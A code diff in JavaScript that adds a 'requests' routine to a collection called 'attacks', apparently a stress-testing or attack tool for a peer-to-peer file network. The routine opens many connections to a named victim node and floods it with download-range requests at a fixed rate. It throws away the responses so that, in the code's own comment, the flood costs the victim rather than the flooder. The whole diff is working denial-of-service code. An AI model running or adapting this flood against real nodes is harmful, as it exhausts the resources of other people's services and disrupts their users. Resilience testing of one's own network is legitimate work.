@@ -94,6 +94,48 @@ const attacks = {
     report('ready', { asked: links.length, held: held(links) });
   },
 
+  async requests(options, report) {
+    const { victim, sha1, size, length, rate } = options;
+    const [, , topic] = transferTopics(victim);
+    let received = 0;
+    const asking = () => {
+      let socket = null;
+      let discarding = false;
+      return {
+        onReady: (json, { identity }) => {
+          socket = json._socket;
+          discarding = false;
+          let at = 0;
+          const ask = () => {
+            const start = at++ * length % (size - length + 1);
+            const request = messages.requestToNode(victim, messages.randomId(), messages.downloadRange({ sha1 }, start, start + length));
+            json.sendMessage(messages.envelope(identity, messages.broadcast(identity, DIALECT, request)));
+          };
+          const timer = setInterval(() => {
+            for (let i = 0; i < rate * TICK_MS / 1000; i++) ask();
+          }, TICK_MS);
+          socket.on('close', () => clearInterval(timer));
+        },
+        // What comes is not parsed: the flood is to cost the victim, not the flooder.
+        onFrame: () => {
+          if (discarding) return;
+          discarding = true;
+          socket.removeAllListeners('data');
+          socket.on('data', (data) => { received += data.length; });
+        },
+      };
+    };
+    const node = await openNode(options.bootstrap, options.address[0]);
+    // Loaders announce themselves there, too, and would pass the requests on.
+    const found = (await portsOf(node, topic.topic)).filter(({ port }) => !options.port || port === options.port);
+    const links = found.flatMap((to) => options.address.flatMap((address) => {
+      return Array.from({ length: options.count }, () => new Link({ to, protocol: topic.protocol, address, ...asking() }));
+    }));
+    await Promise.all(links.map((link) => link.settled));
+    setInterval(() => report('received', { bytes: received }), 1000);
+    report('ready', { asked: links.length, held: held(links) });
+  },
+
   async replay({ bootstrap, channel: [channel], address: [address], victim, of, count }, report) {
     const node = await openNode(bootstrap, address);
     const frames = { nodeId: victim };
